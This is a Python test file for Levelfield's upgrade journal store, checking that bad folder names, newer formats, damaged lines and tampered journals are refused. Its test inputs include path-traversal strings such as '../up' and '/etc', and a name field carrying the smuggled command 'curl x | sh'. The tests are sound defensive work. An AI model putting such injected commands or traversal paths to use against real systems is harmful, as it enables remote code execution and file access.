"""The folders of upgrades: made once, read with care."""

import dataclasses
from collections.abc import Callable
from pathlib import Path

import msgspec
import pytest

from levelfield.errors import LevelfieldError
from levelfield.record.files import JOURNAL
from levelfield.run.upgrade import store
from levelfield.run.upgrade.progress import FORMAT, Begun, How
from tests.run.upgrade.journals import begun, events


def write(reports: Path, name: str, sides: str) -> Path:
    path = store.folder(name, reports) / JOURNAL
    path.parent.mkdir(parents=True)
    path.write_bytes(b"".join(msgspec.json.encode(event) + b"\n" for event in events(sides, begun(name=name))))
    return path


@pytest.mark.parametrize("name", ["", "../up", "a b", "x" * 65])
def test_a_name_that_is_no_folder_s_is_refused(reports: Path, name: str) -> None:
    with pytest.raises(LevelfieldError, match="An upgrade cannot be called"):
        store.create(begun(name=name), reports)
    assert not reports.exists()


def test_a_newer_journal_is_refused(reports: Path) -> None:
    path = write(reports, "up", "o")
    path.write_bytes(path.read_bytes().replace(f'"format":{FORMAT}'.encode(), b'"format":99,"later":[1]', 1))
    with pytest.raises(LevelfieldError, match="newer Levelfield: its journal has format 99") as caught:
        store.load("up", reports)
    assert caught.value.fix == "Use the newer Levelfield."
    store.folder("empty", reports).mkdir()
    assert store.names(reports) == ["up"], "those with a journal"


def test_a_journal_without_end_is_not_read(reports: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write(reports, "up", "o")
    monkeypatch.setattr(store, "_ALL", dataclasses.replace(store._ALL, max_bytes=100))
    with pytest.raises(LevelfieldError, match="cannot be read"):
        store.load("up", reports)


def test_a_damaged_line_is_refused_and_a_torn_one_is_dropped(reports: Path) -> None:
    path = write(reports, "up", "oo")
    whole = path.read_bytes()
    path.write_bytes(whole[:-20])
    assert len(store.load("up", reports).boots) == 1
    path.write_bytes(whole.replace(b'"type":"measured"', b'"type":"measurd"', 1))
    with pytest.raises(LevelfieldError, match="damaged in line 3"):
        store.load("up", reports)


@pytest.mark.parametrize("run", ["../elsewhere", "/etc", "..", "a/b", "a\nb", "lnk", "upgrades"])
def test_a_run_outside_of_the_reports_is_none(reports: Path, run: str) -> None:
    path = write(reports, "up", "o")
    path.write_bytes(path.read_bytes().replace(b'"20260301-000001-run"', msgspec.json.encode(run)))
    with pytest.raises(LevelfieldError, match="damaged in line 2"):
        store.load("up", reports)


EDITS = (
    ('"launcher":null', '"launcher":"venv"'), ('"launcher":null', '"launcher":"host"'), ('"debian"', '"evil"'),
    ('"identify":false', '"identify":true'), ('{"cpu model":"a CPU"}', "{}"),
    ('{"kernel, release":"6.1"}', "{}"), ('"boots":2', '"boots":9'), ('"one_way":false', '"one_way":true'),
    ('"profile":"standard"', '"profile":"smoke"'), ('"salt":"salt"', '"salt":""'), ('"seal":"', '"seal":"\u00e4'),
)  # fmt: skip


@pytest.mark.parametrize(("was", "now"), EDITS)
def test_what_this_installation_did_not_begin_is_read_and_not_gone_on_with(
    reports: Path, cache: Path, was: str, now: str
) -> None:
    state = store.create(begun(how=How(budget_seconds=5)), reports)
    assert store.load_own("up", reports) == state, "5 is written, and 5.0 is read"
    path = store.folder("up", reports) / JOURNAL
    text = path.read_text()
    assert was in text
    path.write_text(text.replace(was, now))
    with pytest.raises(LevelfieldError, match="The upgrade up was not begun here, or was changed since") as caught:
        store.load_own("up", reports)
    assert "Begin another upgrade; or set LEVELFIELD_CACHE" in caught.value.fix
    assert store.load("up", reports).begun.name == "up"


@pytest.mark.parametrize(
    "changed",
    [
        lambda lines: [lines[0], lines[1].replace(b'"boot":"', b'"boot":"another '), lines[2]],
        lambda lines: [*lines, *lines[1:]],
        lambda lines: [lines[0], lines[2]],
    ],
)
def test_no_later_line_is_edited_repeated_or_left_out(
    reports: Path, changed: Callable[[list[bytes]], list[bytes]]
) -> None:
    first, *later = events("o")
    assert isinstance(first, Begun)
    store.create(first, reports)
    with store.open_journal("up", reports) as journal:
        for event in later:
            store.add(journal, event)
    assert len(store.load_own("up", reports).boots) == 1
    path = store.folder("up", reports) / JOURNAL
    path.write_bytes(b"".join(changed(path.read_bytes().splitlines(keepends=True))))
    with pytest.raises(LevelfieldError):
        store.load_own("up", reports)


def test_another_installation_does_not_go_on(reports: Path, cache: Path) -> None:
    store.create(begun(), reports)
    (cache / "installation.key").unlink()
    with pytest.raises(LevelfieldError, match="was not begun here"):
        store.load_own("up", reports)


def test_a_journal_is_of_the_name_of_its_folder(reports: Path) -> None:
    path = write(reports, "up", "o")
    path.write_bytes(path.read_bytes().replace(b'"name":"up"', b'"name":"up; curl x | sh #"'))
    with pytest.raises(LevelfieldError, match="is of an upgrade of another name"):
        store.load("up", reports)
